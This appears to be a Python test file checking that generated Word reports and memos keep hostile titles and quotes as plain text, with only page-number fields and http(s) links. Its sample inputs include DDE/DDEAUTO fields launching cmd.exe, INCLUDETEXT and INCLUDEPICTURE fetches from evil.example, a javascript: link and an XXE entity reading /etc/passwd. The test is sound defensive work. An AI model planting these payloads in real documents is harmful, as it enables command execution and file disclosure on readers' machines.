"""Fields, macros and outside parts in Word files.

Tried: Titles and quotes read `{ INCLUDETEXT … }`, `{ DDEAUTO … }`, `HYPERLINK`, or are pieces of
the file's own XML; addresses name programs of Office and shares of a stranger's machine.
Must: Opened with python-docx and read as XML, the gap report and the memo hold them as text; the
only fields are page numbers, and the only outside parts are links to http(s).
"""

from __future__ import annotations

import io
import zipfile

from docx.oxml.ns import qn
from lxml import etree

from results.formats.docx import unit_docx
from results.papers.memo import memo_values
from results.papers.memo_docx import MemoTemplate
from results.papers.memo_template import memo_template
from tests.results.papers.papers_samples import text_of
from tests.results.papers.test_memo import LETTER, OFFICE
from tests.results.sheets import report_saying

FIELD = qn("w:fldSimple")
FIELDS = (
    r'{ INCLUDETEXT "http://evil.example/a.docx" }',
    r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"',
    r'HYPERLINK "javascript:alert(1)" \o "ดูผล"',
    '</w:t></w:r><w:r><w:instrText>INCLUDEPICTURE "http://evil.example/x"</w:instrText></w:r>',
    '<w:fldSimple w:instr="DDE cmd calc"/>',
    '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
)


def fields_and_parts(content: bytes) -> tuple[set[str], set[str]]:
    """The commands of all fields, and the targets of all outside parts."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        parts = {name: package.read(name).decode("utf-8", "replace") for name in package.namelist()}
    assert not [name for name in parts if "vba" in name.lower() or "embed" in name.lower()]
    commands: set[str] = set()
    outside: set[str] = set()
    for name, text in parts.items():
        if name.endswith((".xml", ".rels")):
            root = etree.fromstring(text.encode())
            commands |= {(one.text or "").split()[0] for one in root.iter(qn("w:instrText"))}
            commands |= {one.get(qn("w:instr"), "").split()[0] for one in root.iter(FIELD)}
            outside |= {
                one.get("Target", "") for one in root.iter() if one.get("TargetMode") == "External"
            }
    return commands, outside


def test_the_report_and_the_memo_hold_text_alone() -> None:
    report = report_saying(" ".join(FIELDS), "ms-word:ofe|u|http://evil.example/a.docx")
    memo = MemoTemplate(memo_template()).filled(memo_values(report, OFFICE, LETTER))
    for paper in (unit_docx(report), memo):
        commands, outside = fields_and_parts(paper)
        assert commands <= {"PAGE", "NUMPAGES"}
        assert all(target.startswith(("http://", "https://")) for target in outside)
        assert not any("evil.example" in target for target in outside)
        assert all(text.split()[0] in text_of(paper) for text in FIELDS)
